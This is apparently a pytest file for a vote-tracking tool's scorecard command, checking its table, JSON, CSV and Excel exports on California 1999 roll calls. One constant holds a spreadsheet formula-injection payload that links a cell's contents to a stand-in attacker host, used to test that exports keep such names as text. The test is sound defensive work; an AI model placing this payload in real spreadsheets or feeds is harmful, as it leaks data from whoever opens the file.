"""``tracker scorecard`` through the Typer runner, and its CSV and Excel files, on California's real 1999 pubinfo
roll calls with positions set in tests/scorecard_data.py (numbers checked by hand there). A member name that reads
as a formula (feeds are not ours) stays text in both files. Runs on SQLite and, with DATABASE_URL, PostgreSQL."""

import csv
import io
import json
from pathlib import Path

import pytest
from openpyxl import load_workbook
from scorecard_data import CA_SESSION, load_ca
from sqlalchemy import Engine
from sqlmodel import Session
from typer.testing import CliRunner

from tracker.cli import app
from tracker.exports.branding import Branding
from tracker.exports.scorecard import write_scorecard_csv, write_scorecard_xlsx
from tracker.scorecard import scorecard

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"Thompson")'


def _run(*args: str) -> object:
    return CliRunner().invoke(app, ["scorecard", *args], catch_exceptions=False)


@pytest.mark.realdata
def test_scorecard_command_table_json_csv_and_excel_with_formulas_kept_as_text(engine: Engine, tmp_path: Path) -> None:
    load_ca(engine)
    scope = ["--jurisdiction", "CA", "--session", CA_SESSION]
    shown = _run(*scope)
    assert shown.exit_code == 0, shown.output
    assert "6 key votes" in shown.output and "Thompson" in shown.output and "33.3%" in shown.output

    as_json = _run(*scope, "--json")
    assert as_json.exit_code == 0, as_json.output
    data = json.loads(as_json.output)
    thompson = next(m for m in data["legislators"] if m["name"] == "Thompson")
    assert (thompson["with_us"], thompson["against_us"], thompson["absent"], thompson["score"]) == (1, 2, 0, 33.3)
    assert len(data["key_votes"]) == 6 and len(thompson["votes"]) == 3
    assert (thompson["chamber"], thompson["chamber_name"]) == ("lower", "Assembly")  # the code, and its name

    target = tmp_path / "assembly.csv"
    written = _run(*scope, "--chamber", "lower", "--csv", "--out", str(target))
    assert written.exit_code == 0, written.output
    assert "Wrote" in written.output and "3 key votes" in written.output
    rows = list(csv.DictReader(io.StringIO(target.read_bytes().decode("utf-8-sig"))))
    battin = next(r for r in rows if r["Legislator"] == "Battin")
    assert (battin["With us"], battin["Against us"], battin["Absent/not voting"], battin["Score %"]) == (
        "0", "2", "1", "0.0")
    # The chambers as California's readers name them, in the columns and in each key vote's heading.
    assert {r["Chamber"] for r in rows} == {"Assembly"} and len(rows) == 79
    assert "SB 1 (Assembly, 1999-03-22): Support" in rows[0]

    book = tmp_path / "card.xlsx"
    assert _run(*scope, "--out", str(book)).exit_code == 0
    sheet = load_workbook(book)["Scorecard"]
    header = [c.value for c in sheet[1]]
    frusetta = next(r for r in sheet.iter_rows(min_row=2, values_only=True) if r[0] == "Frusetta")
    assert frusetta[header.index("Score %")] == 0.0 and frusetta[header.index("Absent/not voting")] == 2

    assert _run(*scope, "--json", "--csv").exit_code == 2
    assert _run(*scope, "--csv", "--out", str(tmp_path / "x.xlsx")).exit_code == 2
    assert _run("--jurisdiction", "ca", "--session", "1999").exit_code == 2  # not a stored session
    assert _run("--jurisdiction", "ca", "--session", "19992000").exit_code == 4  # no position there: no key vote
    assert _run(*scope, "--from", "23 March").exit_code == 2

    # A member name that reads as a formula (feeds are not ours) stays text in both files.
    with Session(engine) as s:
        card = scorecard(s, jurisdiction="ca", session_identifier=CA_SESSION)
    next(m for m in card.legislators if m.name == "Thompson").name = HOSTILE
    rows = list(csv.reader(io.StringIO(write_scorecard_csv(card).decode("utf-8-sig"))))
    assert ["'" + HOSTILE.split(";")[0]] == [r[0] for r in rows if "HYPERLINK" in r[0]]
    book = load_workbook(io.BytesIO(write_scorecard_xlsx(card, Branding())))
    cell = next(c for row in book["Scorecard"].iter_rows(min_row=2) for c in row[:1] if "HYPERLINK" in str(c.value))
    assert cell.data_type == "s" and cell.value == HOSTILE and cell.quotePrefix
